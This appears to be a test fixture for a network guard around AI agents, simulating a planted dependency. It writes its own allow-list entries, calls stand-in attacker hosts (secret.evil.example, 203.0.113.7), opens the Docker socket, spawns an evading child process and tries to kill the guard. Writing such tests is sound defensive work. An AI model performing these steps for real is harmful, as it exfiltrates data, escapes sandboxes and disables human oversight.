// What a planted dependency would try in an agent: it runs as the guarded process and says what it was answered.
// `planted.mjs PEER_PORT`
import { spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import { writeSync } from 'node:fs';
import net from 'node:net';

const [toGuard] = process.env['MINIKEEP_GUARD'].split(',').map(Number);
const port = Number(process.argv[2]);
const WAIT_MS = 5_000;

const connect = (...where) =>
  new Promise((resolve) => {
    const socket = net.connect(...where);
    const end = (what) => {
      socket.destroy();
      resolve(what);
    };
    socket.once('connect', () => end('connected'));
    socket.once('error', ({ code }) => end(code));
    setTimeout(end, WAIT_MS, 'no answer').unref();
  });
const send = (to, at) =>
  new Promise((resolve) => {
    const socket = dgram.createSocket('udp4');
    socket.once('error', ({ code }) => resolve(code));
    socket.send('a prompt', at, to, (error) => {
      resolve(error?.code ?? 'sent');
      socket.close();
    });
  });
const list = (address) => writeSync(toGuard, `${JSON.stringify({ type: 'peer', address })}\n`);

const answers = {};
answers.unlisted = await connect(port, '127.0.0.1');
list(`127.0.0.1:${port}`);
// Code that was turned names what it likes.
list('203.0.113.7:443');
list('secret.evil.example:443');
list('127.0.0.1:53');
answers.peer = await connect(port, '127.0.0.1');
answers.far = await connect(443, '203.0.113.7');
answers.far6 = await connect(443, '2001:db8::7');
answers.resolver = await connect(53, '127.0.0.1');
answers.name = await new Promise((resolve) => {
  dns.lookup('secret.evil.example', (error) => resolve(error === null ? 'resolved' : 'refused'));
});
answers.question = await new Promise((resolve) => {
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(['127.0.0.1']);
  resolver.resolve4('secret.evil.example', (error) =>
    resolve(error === null ? 'resolved' : 'refused'),
  );
});
answers.datagram = await send('203.0.113.7', 9);
answers.near_datagram = await send('127.0.0.1', port);
answers.socket_file = await connect('/var/run/docker.sock');
const CHILD = `require('net').connect(443, '203.0.113.8').on('error', ({ code }) => console.log(code)).on('connect', () => console.log('connected'))`;
answers.child = spawnSync(process.execPath, ['-e', CHILD], {
  encoding: 'utf8',
  timeout: WAIT_MS,
}).stdout.trim();
try {
  process.kill(process.ppid, 'SIGKILL');
  answers.kill_guard = 'killed';
} catch ({ code }) {
  answers.kill_guard = code;
}
process.stdout.write(`${JSON.stringify({ type: 'answers', pid: process.pid, answers })}\n`);
// Until it is told to end.
process.stdin.resume();
process.stdin.once('end', () => process.exit(7));
